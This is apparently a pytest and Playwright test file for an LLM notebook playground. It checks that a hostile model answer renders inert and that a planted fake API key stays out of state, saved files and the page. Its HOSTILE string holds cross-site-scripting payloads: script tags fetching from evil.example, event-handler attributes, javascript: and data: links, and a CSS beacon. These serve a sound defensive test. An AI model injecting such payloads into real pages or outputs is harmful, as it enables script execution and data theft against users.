"""An answer cannot run code or load anything, and a key appears nowhere a page or file can show."""

import json

import pytest
from playwright.sync_api import expect

from tests.providers.formats import openai_stream
from tests.providers.server import Reply, WireServer

# Each would set window.stolen, or ask a server of its own, if anything of it were alive.
HOSTILE = """Hello <script>window.stolen = 1; fetch("http://evil.example/script")</script>

<img src="http://evil.example/pixel.png" onerror="window.stolen = 2">
<svg onload="window.stolen = 3"></svg> <iframe src="http://evil.example/frame"></iframe>

![pixel](http://evil.example/markdown.png) ![x](javascript:window.stolen=4)

[click me](javascript:window.stolen=5) [data](data:text/html,<script>window.stolen=6</script>)

</script></textarea></div><style>* { background: url("http://evil.example/style") }</style>

```html
</code></pre><script>window.stolen = 7</script>
```
<a href="http://good.example/" onclick="window.stolen = 8">a link</a> The end."""
PIECES = [HOSTILE[at : at + 7] for at in range(0, len(HOSTILE), 7)]
# Looks like a key to the format check; put together so that no scanner takes this file for a leak.
KEY = "-".join(["sk", "planted", "only", "for", "this", "test", "7Qa"])

PLAYGROUND = """import llm_playground as lp
pg = lp.Playground(models=['openai:gpt-4o-mini'], prompt='Hello')
pg"""
MAGIC = "%%llm -m openai:gpt-4o-mini\nHello"


@pytest.fixture(scope="module")
def vendor():
    with WireServer(Reply(openai_stream(PIECES))) as server:
        yield server


@pytest.fixture(scope="module")
def notebook(open_notebook, vendor):
    """A notebook whose kernel has the planted key and talks to the hostile server."""
    opened = open_notebook(PLAYGROUND, MAGIC)
    opened.asked = []
    opened.page.on("request", lambda request: opened.asked.append(request.url))
    opened.in_kernel(
        f"import os; os.environ['OPENAI_API_KEY'] = {KEY!r}\n"
        f"os.environ['OPENAI_BASE_URL'] = {vendor.url + '/v1'!r}"
    )
    opened.in_kernel("%load_ext llm_playground")
    return opened


def assert_nothing_happened(notebook, answer):
    for link in answer.locator("a").all():
        href = link.get_attribute("href") or ""
        assert href.startswith(("http://", "https://")), href
    for tag in ("script", "img", "svg", "iframe", "style", "object", "textarea"):
        assert answer.locator(tag).count() == 0, tag
    outside = [
        url for url in notebook.asked if not url.startswith((notebook.server.url, "blob:", "data:"))
    ]
    assert outside == []
    assert notebook.page.evaluate("() => window.stolen") is None


def test_a_hostile_answer_in_the_widget_runs_and_loads_nothing(notebook, vendor):
    notebook.run_cell(0)

    notebook.by("run").click()

    expect(notebook.by("footer")).to_contain_text("$")
    expect(notebook.by("answer")).to_contain_text("The end.")
    assert vendor.requests[-1].headers["authorization"] == f"Bearer {KEY}", "the key is in use"
    assert_nothing_happened(notebook, notebook.by("answer"))


def test_a_hostile_answer_of_the_magic_runs_and_loads_nothing(notebook):
    notebook.run_cell(1)

    output = notebook.page.locator(".jp-CodeCell").nth(1).locator(".jp-OutputArea")
    expect(output).to_contain_text("The end.")
    expect(output).to_contain_text("$")
    assert_nothing_happened(notebook, output.locator(".jp-OutputArea-output"))


def test_the_key_is_in_no_state_file_or_page(notebook):
    notebook.run_cell(0)
    notebook.run_cell(1)
    notebook.by("run").click()
    expect(notebook.by("footer")).to_contain_text("$")

    state = notebook.in_kernel("import json; print(json.dumps(pg.get_state(), default=repr))")
    assert "gpt-4o-mini" in state
    saved = json.dumps(notebook.saved())
    assert "The end." in saved, "the file has the magic's answer"
    for place in (state, saved, notebook.page.content()):
        assert KEY not in place
        assert KEY[:-3] not in place
    logged = notebook.in_kernel("print(lp.runs().to_json())")
    assert KEY not in logged
